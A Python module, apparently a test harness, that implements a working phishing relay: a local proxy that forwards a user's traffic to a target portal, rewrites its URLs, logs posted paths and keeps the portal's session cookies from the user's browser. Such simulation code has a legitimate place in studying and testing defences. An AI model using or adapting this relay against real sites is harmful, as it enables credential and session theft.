"""What a phishing kit does: a page on another host that passes everything on, live, in both directions."""

import http.client
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

HOP_BY_HOP = frozenset({"connection", "transfer-encoding", "content-length", "keep-alive", "content-encoding"})

Rewriting = Callable[[str, bytes], bytes]
"""What the relay makes of a body on its way, given the path."""


def as_it_is(_path: str, body: bytes) -> bytes:
    """Pass a body on."""
    return body


class Relay:
    """The relay's own place, and what it saw."""

    def __init__(self, *, target: str, host: str, asking: Rewriting, answering: Rewriting) -> None:
        self.target = urlsplit(target)
        self.host = host
        self.asking, self.answering = asking, answering
        self.cookies: dict[str, str] = {}
        """What the portal has given, kept by the thief."""
        self.posted: set[str] = set()
        """Where the owner's browser has sent something."""
        relay = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                relay.pass_on(self)

            do_POST = do_HEAD = do_GET  # noqa: N815 - the names of the standard library

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True

    @property
    def origin(self) -> str:
        """Where the deceived owner believes to be at the portal."""
        return f"http://{self.host}:{self.server.server_port}"

    @property
    def portal(self) -> str:
        """Where the portal is."""
        return f"{self.target.scheme}://{self.target.netloc}"

    def pass_on(self, handler: BaseHTTPRequestHandler) -> None:
        """Ask the portal in the owner's place, as a client of the relay's own, and hand the answer on."""
        body = handler.rfile.read(int(handler.headers.get("Content-Length") or 0))
        if handler.command == "POST":
            self.posted.add(handler.path)
        body = self.asking(handler.path, body)
        headers = {
            name: value.replace(self.origin, self.portal)
            for name, value in handler.headers.items()
            if name.lower() not in HOP_BY_HOP | {"host", "cookie", "accept-encoding"}
        }
        headers |= {"Host": self.target.netloc, "Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())}
        with closing(http.client.HTTPConnection(self.target.hostname or "", self.target.port, timeout=20)) as portal:
            portal.request(handler.command, handler.path, body=body or None, headers=headers)
            answer = portal.getresponse()
            content = self.answering(handler.path, answer.read())
        content = content.replace(self.portal.encode(), self.origin.encode())
        with suppress(ConnectionError):  # the owner has gone on to another page
            handler.send_response(answer.status)
            for name, value in answer.getheaders():
                self._hand_on(handler, name, value)
            handler.send_header("Content-Length", str(len(content)))
            handler.end_headers()
            handler.wfile.write(content)

    def _hand_on(self, handler: BaseHTTPRequestHandler, name: str, value: str) -> None:
        if name.lower() == "set-cookie":
            key, _, rest = value.partition("=")
            self.cookies[key] = rest.partition(";")[0]
            return  # the owner's browser needs none: the session is the thief's
        if name.lower() not in HOP_BY_HOP:
            handler.send_header(name, value.replace(self.portal, self.origin))


@contextmanager
def relaying(
    target: str, *, host: str, asking: Rewriting = as_it_is, answering: Rewriting = as_it_is
) -> Iterator[Relay]:
    """Run a relay of ``target`` under the name ``host`` on a port of its own."""
    relay = Relay(target=target, host=host, asking=asking, answering=answering)
    thread = threading.Thread(target=relay.server.serve_forever, daemon=True)
    thread.start()
    try:
        yield relay
    finally:
        relay.server.shutdown()
        relay.server.server_close()
        thread.join(timeout=10)
